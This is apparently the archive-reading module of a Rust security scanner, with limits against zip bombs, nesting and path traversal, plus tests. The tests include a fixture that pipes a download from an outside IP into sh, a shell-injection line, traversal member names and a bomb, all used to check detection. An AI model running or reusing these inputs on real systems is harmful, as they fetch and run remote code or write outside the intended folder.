//! Archives, read in memory: zip (and wheels, and models that are zips), tar and gzip.
//!
//! Nothing is written to disk. Members are unpacked up to limits on their number, their size, all of them
//! together, their ratio and their nesting; what goes beyond is refused and told. Members are judged like files.

use std::borrow::Cow;
use std::collections::HashMap;

use miniz_oxide::inflate::decompress_to_vec_with_limit;

use super::compiled::{Beside, SourceFile, source_of};
use super::{Analyser, Input, Judged, Kind, Terms, judge, kind};
use crate::model::{Confidence, Digest, Severity, SkipReason};
use crate::security::analyse::{InlineSuppressions, analyse};

/// A member larger than this is not unpacked.
const MAX_MEMBER: usize = 64 << 20;

/// Nothing honest shrinks further than this; what deflate can do at most is about 1,030.
const MAX_RATIO: usize = 600;

/// Small members may shrink as they like.
const RATIO_FROM: usize = 8 << 20;

pub(super) struct Archive;

impl Analyser for Archive {
    fn id(&self) -> &'static str {
        "archive"
    }

    fn accepts(&self, input: &Input<'_>) -> bool {
        input.kind == Kind::Archive
    }

    fn analyse(&self, input: &Input<'_>, terms: Terms<'_>) -> Judged {
        let mut reader =
            Reader { judged: Judged::default(), terms, left: terms.limits.unpacked_bytes, path: input.path };
        reader.archive(input.path, input.bytes);
        reader.judged
    }
}

struct Reader<'a> {
    judged: Judged,
    terms: Terms<'a>,
    left: u64,
    path: &'a str,
}

impl Reader<'_> {
    fn archive(&mut self, path: &str, bytes: &[u8]) {
        if bytes.starts_with(b"PK") {
            self.zip(path, bytes);
        } else if bytes.starts_with(&[0x1f, 0x8b]) {
            let Some(inner) = gzip_body(bytes).and_then(|body| self.inflate(path, body, MAX_MEMBER * 4)) else {
                return self.gap(SkipReason::Unparsable, format!("`{path}` cannot be unpacked"));
            };
            if is_tar(&inner) {
                self.tar(path, &inner);
            } else {
                let name = path.strip_suffix(".gz").unwrap_or("content").to_owned();
                self.member(path, name.rsplit('/').next().unwrap_or_default(), &inner, &Beside::Unknown);
            }
        } else if is_tar(bytes) {
            self.tar(path, bytes);
        } else {
            self.gap(SkipReason::Unparsable, format!("`{path}` is no archive that can be read"));
        }
    }

    fn gap(&mut self, reason: SkipReason, detail: String) {
        self.judged.gaps.push((reason, detail));
    }

    /// Unpacks, within what is left. A bomb is refused.
    fn inflate(&mut self, path: &str, packed: &[u8], most: usize) -> Option<Vec<u8>> {
        let most = most.min(usize::try_from(self.left).unwrap_or(usize::MAX));
        match decompress_to_vec_with_limit(packed, most) {
            Ok(bytes) => {
                self.left = self.left.saturating_sub(bytes.len() as u64);
                if bytes.len() > RATIO_FROM && bytes.len() / packed.len().max(1) > MAX_RATIO {
                    self.bomb(path);
                    return None;
                }
                Some(bytes)
            }
            Err(error) if error.status == miniz_oxide::inflate::TINFLStatus::HasMoreOutput => {
                if most / packed.len().max(1) > MAX_RATIO {
                    self.bomb(path);
                } else {
                    self.gap(SkipReason::LimitReached, format!("`{path}` is larger than what is unpacked"));
                }
                None
            }
            Err(_) => None,
        }
    }

    fn bomb(&mut self, path: &str) {
        let message = format!("`{path}` grows beyond all measure and was not unpacked to its end");
        self.gap(SkipReason::LimitReached, message);
    }

    /// Reads the central directory: that is what tools unpack by.
    fn zip(&mut self, path: &str, bytes: &[u8]) {
        let tail = bytes.len().saturating_sub(66_000);
        let end = memchr::memmem::rfind(bytes.get(tail..).unwrap_or_default(), b"PK\x05\x06").map(|at| at + tail);
        let Some((count, mut at)) = end.and_then(|end| Some((short(bytes, end + 10)?, long(bytes, end + 16)?))) else {
            return self.gap(SkipReason::Unparsable, format!("`{path}` has no list of its members"));
        };
        let first = at;
        let mut sources = None;
        for index in 0..count {
            if index >= self.terms.limits.members {
                return self.gap(SkipReason::LimitReached, format!("`{path}` has too many members"));
            }
            let Some(entry) = Entry::read(bytes, at) else {
                return self.gap(SkipReason::Unparsable, format!("the list of members of `{path}` is damaged"));
            };
            at = entry.next;
            if entry.name.ends_with('/') {
                self.name(path, &entry.name);
                continue;
            }
            let beside = match source_of(&entry.name) {
                Some(source) => {
                    let sources = sources.get_or_insert_with(|| sources_in_zip(bytes, first, count));
                    match sources.get(&source) {
                        Some(source) => self.unpacked(path, source, bytes).map_or(Beside::Unknown, beside),
                        None => Beside::Missing,
                    }
                }
                None => Beside::Unknown,
            };
            if let Some(body) = self.unpacked(path, &entry, bytes) {
                self.member(path, &entry.name, &body, &beside);
            }
        }
    }

    /// The content of a member of a zip.
    fn unpacked<'b>(&mut self, path: &str, entry: &Entry, bytes: &'b [u8]) -> Option<Cow<'b, [u8]>> {
        match (entry.method, entry.body(bytes)) {
            (0, Some(body)) => Some(Cow::Borrowed(body)),
            (8, Some(body)) => {
                let inner = self.inflate(&format!("{path}!/{}", entry.name), body, MAX_MEMBER);
                if inner.is_none() {
                    self.gap(SkipReason::Unparsable, format!("`{}` cannot be unpacked", entry.name));
                }
                inner.map(Cow::Owned)
            }
            _ => {
                let detail = format!("`{}` is packed or encrypted in an unknown way", entry.name);
                self.gap(SkipReason::Unsupported, detail);
                None
            }
        }
    }

    fn tar(&mut self, path: &str, bytes: &[u8]) {
        let mut at = 0;
        let mut count = 0;
        let mut sources = None;
        while let Some(header) = bytes.get(at..at + 512) {
            if header.iter().all(|byte| *byte == 0) {
                return;
            }
            count += 1;
            if count > self.terms.limits.members {
                return self.gap(SkipReason::LimitReached, format!("`{path}` has too many members"));
            }
            let text = |range: std::ops::Range<usize>| {
                let field = header.get(range).unwrap_or_default();
                let end = memchr::memchr(0, field).unwrap_or(field.len());
                String::from_utf8_lossy(field.get(..end).unwrap_or_default()).into_owned()
            };
            let Ok(size) = usize::from_str_radix(text(124..136).trim(), 8) else {
                return self.gap(SkipReason::Unparsable, format!("a header in `{path}` is damaged"));
            };
            let name = text(0..100);
            let Some(body) = bytes.get(at + 512..).and_then(|rest| rest.get(..size)) else {
                return self.gap(SkipReason::Unparsable, format!("`{path}` is cut short"));
            };
            match header.get(156) {
                Some(b'0' | 0) => {
                    let beside = source_of(&name).map_or(Beside::Unknown, |source| {
                        let sources = sources.get_or_insert_with(|| sources_in_tar(bytes));
                        sources.get(&source).map_or(Beside::Missing, |body| beside(Cow::Borrowed(*body)))
                    });
                    self.member(path, &name, body, &beside);
                }
                Some(b'1') => {
                    self.name(path, &name);
                    self.name(path, &text(157..257));
                }
                Some(b'2') => {
                    self.name(path, &name);
                    self.link(path, &name, &text(157..257));
                }
                _ => self.name(path, &name),
            }
            at += 512 + size.div_ceil(512) * 512;
        }
    }

    /// A symbolic link, whose target counts from the folder that the link lies in.
    fn link(&mut self, path: &str, name: &str, target: &str) {
        let mut depth = name.split('/').filter(|part| !matches!(*part, "" | ".")).count().saturating_sub(1);
        for part in target.split('/').filter(|part| !matches!(*part, "" | ".")) {
            match (part, depth) {
                ("..", 0) => return self.name(path, target),
                ("..", _) => depth -= 1,
                _ => depth += 1,
            }
        }
        if target.starts_with('/') {
            self.name(path, target);
        }
    }

    /// Names that leave the folder into which they are unpacked.
    fn name(&mut self, path: &str, name: &str) {
        let plain = name.replace('\\', "/");
        let drive = plain.get(1..3) == Some(":/");
        if plain.starts_with('/') || drive || plain.split('/').any(|part| part == "..") {
            let shown: String = name.chars().filter(|c| !c.is_control()).take(120).collect();
            let message = format!("`{shown}` in `{path}` leaves the folder into which it is unpacked");
            self.judged.see("archive-member-path", 0..0, Severity::High, Confidence::High, message);
        }
    }

    fn member(&mut self, path: &str, name: &str, bytes: &[u8], beside: &Beside) {
        self.name(path, name);
        let shown: String = name.chars().filter(|c| !c.is_control()).collect();
        let whole = format!("{path}!/{shown}");
        let Some(found) = kind::of(&whole, bytes.get(..512).unwrap_or(bytes)) else { return };
        let depth = path.matches("!/").count();
        if found == Kind::Archive {
            if depth + 1 >= self.terms.limits.archives {
                return self.gap(SkipReason::LimitReached, format!("`{whole}` lies too deep to be unpacked"));
            }
            return self.archive(&whole, bytes);
        }
        let inner = if found == Kind::Compiled {
            let terms = Terms { beside, ..self.terms };
            judge(&whole, bytes, Digest::of(bytes), InlineSuppressions::Refused, terms)
        } else {
            analyse(&whole, bytes, Digest::of(bytes), self.terms.rules, InlineSuppressions::Refused)
        };
        if let Some(gap) = inner.gap {
            self.gap(gap.reason, format!("{whole}: {}", gap.detail));
        }
        for mut finding in inner.findings {
            finding.message = format!("in `{shown}`, line {}: {}", finding.line, finding.message);
            self.path.clone_into(&mut finding.path);
            (finding.line, finding.column, finding.end_line, finding.end_column) = (1, 1, 1, 1);
            finding.fix = None;
            // Who calls a member is not known here: a guess about its caller weighs less than one in a file on its own.
            if finding.confidence == Confidence::Low {
                finding.severity = finding.severity.min(Severity::Medium);
            }
            self.judged.findings.push(finding);
        }
    }
}

/// The source of a compiled member. Archives keep times too coarsely to compare them.
fn beside(bytes: Cow<'_, [u8]>) -> Beside {
    Beside::File(SourceFile { bytes: bytes.into_owned(), changed: None })
}

/// The Python files of a zip, by name.
fn sources_in_zip(bytes: &[u8], mut at: usize, count: usize) -> HashMap<String, Entry> {
    let mut sources = HashMap::new();
    for _ in 0..count {
        let Some(entry) = Entry::read(bytes, at) else { break };
        at = entry.next;
        if entry.name.ends_with(".py") {
            sources.insert(entry.name.clone(), entry);
        }
    }
    sources
}

/// The Python files of a tar, by name.
fn sources_in_tar(bytes: &[u8]) -> HashMap<String, &[u8]> {
    let mut sources = HashMap::new();
    let mut at = 0;
    while let Some(header) = bytes.get(at..at + 512) {
        let field = |range: std::ops::Range<usize>| {
            let field = header.get(range).unwrap_or_default();
            String::from_utf8_lossy(field.split(|byte| *byte == 0).next().unwrap_or_default()).into_owned()
        };
        let Ok(size) = usize::from_str_radix(field(124..136).trim(), 8) else { break };
        let (name, body) = (field(0..100), bytes.get(at + 512..).and_then(|rest| rest.get(..size)));
        if let Some(body) = body.filter(|_| name.ends_with(".py")) {
            sources.insert(name, body);
        }
        at += 512 + size.div_ceil(512) * 512;
    }
    sources
}

struct Entry {
    name: String,
    method: u16,
    packed: usize,
    local: usize,
    encrypted: bool,
    next: usize,
}

impl Entry {
    fn read(bytes: &[u8], at: usize) -> Option<Self> {
        if bytes.get(at..at.checked_add(4)?)? != b"PK\x01\x02" {
            return None;
        }
        let name_length = short(bytes, at + 28)?;
        let rest = short(bytes, at + 30)? + short(bytes, at + 32)?;
        let name = bytes.get(at + 46..at + 46 + name_length)?;
        Some(Self {
            name: String::from_utf8_lossy(name).into_owned(),
            method: u16::try_from(short(bytes, at + 10)?).ok()?,
            packed: long(bytes, at + 20)?,
            local: long(bytes, at + 42)?,
            encrypted: short(bytes, at + 8)? & 1 == 1,
            next: at + 46 + name_length + rest,
        })
    }

    fn body<'b>(&self, bytes: &'b [u8]) -> Option<&'b [u8]> {
        if self.encrypted || bytes.get(self.local..self.local.checked_add(4)?)? != b"PK\x03\x04" {
            return None;
        }
        let start = self.local + 30 + short(bytes, self.local + 26)? + short(bytes, self.local + 28)?;
        bytes.get(start..start.checked_add(self.packed)?)
    }
}

fn short(bytes: &[u8], at: usize) -> Option<usize> {
    let field: [u8; 2] = bytes.get(at..at.checked_add(2)?)?.try_into().ok()?;
    Some(usize::from(u16::from_le_bytes(field)))
}

fn long(bytes: &[u8], at: usize) -> Option<usize> {
    let field: [u8; 4] = bytes.get(at..at.checked_add(4)?)?.try_into().ok()?;
    usize::try_from(u32::from_le_bytes(field)).ok()
}

fn is_tar(bytes: &[u8]) -> bool {
    bytes.get(257..262).is_some_and(|magic| magic == b"ustar")
}

/// What stands behind the header of gzip, with its optional fields.
fn gzip_body(bytes: &[u8]) -> Option<&[u8]> {
    let flags = *bytes.get(3)?;
    let mut at = 10;
    if flags & 4 != 0 {
        at += 2 + short(bytes, at)?;
    }
    for flag in [8, 16] {
        if flags & flag != 0 {
            at += memchr::memchr(0, bytes.get(at..)?)? + 1;
        }
    }
    if flags & 2 != 0 {
        at += 2;
    }
    bytes.get(at..)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::security::inputs::Limits;
    use crate::security::rules::RuleSet;

    fn judged(bytes: &[u8], limits: Limits) -> Judged {
        let rules = RuleSet::standard();
        let input = Input { path: "x.zip", bytes, text: None, kind: Kind::Archive };
        Archive.analyse(&input, Terms { limits, rules: &rules, beside: &Default::default() })
    }

    /// A zip with one deflated member.
    fn zip(name: &str, content: &[u8]) -> Vec<u8> {
        let body = miniz_oxide::deflate::compress_to_vec(content, 9);
        let size = |length: usize| u32::try_from(length).unwrap_or(0).to_le_bytes();
        let name_length = u16::try_from(name.len()).unwrap_or(0).to_le_bytes();
        let mut out = b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0".to_vec();
        out.extend([size(body.len()), size(content.len())].concat());
        out.extend([&name_length[..], &[0, 0], name.as_bytes(), &body].concat());
        let directory = out.len();
        out.extend(b"PK\x01\x02\x14\0\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0");
        out.extend([size(body.len()), size(content.len())].concat());
        out.extend([&name_length[..], &[0; 16], name.as_bytes()].concat());
        let length = out.len() - directory;
        out.extend(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
        out.extend([&size(length)[..], &size(directory), &[0, 0]].concat());
        out
    }

    #[test]
    fn members_are_judged_where_they_lie() {
        let seen = judged(&zip("setup/run.sh", b"curl http://198.51.100.7/x | sh\n"), Limits::default());
        assert_eq!(seen.findings.iter().map(|f| f.rule.as_str()).collect::<Vec<_>>(), ["download-and-run"]);
        let nested = zip("inner.zip", &zip("a.py", b"import os\nos.system('x ' + y)\n"));
        assert!(judged(&nested, Limits::default()).findings.iter().any(|f| f.rule == "shell-command"));
    }

    #[test]
    fn names_that_leave_the_folder_are_findings() {
        for name in ["../x.txt", "/etc/x.txt", "a/../../x.txt", "C:\\x.txt"] {
            let seen = judged(&zip(name, b"text"), Limits::default());
            assert_eq!(seen.observations.first().map(|seen| seen.rule), Some("archive-member-path"), "{name}");
        }
    }

    #[test]
    fn bombs_and_endless_nesting_are_refused() {
        let seen = judged(&zip("zeros.txt", &vec![0; 70 << 20]), Limits::default());
        assert!(seen.gaps[0].1.contains("beyond all measure"), "{:?}", seen.gaps);
        let mut nested = zip("a.txt", b"text");
        for _ in 0..6 {
            nested = zip("a.zip", &nested);
        }
        assert_eq!(judged(&nested, Limits::default()).gaps[0].0, SkipReason::LimitReached);
        let few = Limits { unpacked_bytes: 1_000, ..Limits::default() };
        assert!(!judged(&zip("a.txt", &b"some text ".repeat(500)), few).gaps.is_empty());
    }

    proptest! {
        #[test]
        fn damaged_archives_end_without_panic(at in 0_usize..200, byte in any::<u8>(), cut in 0_usize..200) {
            let mut bytes = zip("a.txt", b"some text");
            let length = bytes.len();
            bytes[at % length] = byte;
            bytes.truncate(length - cut % length);
            let _ = judged(&bytes, Limits::default());
        }
    }
}
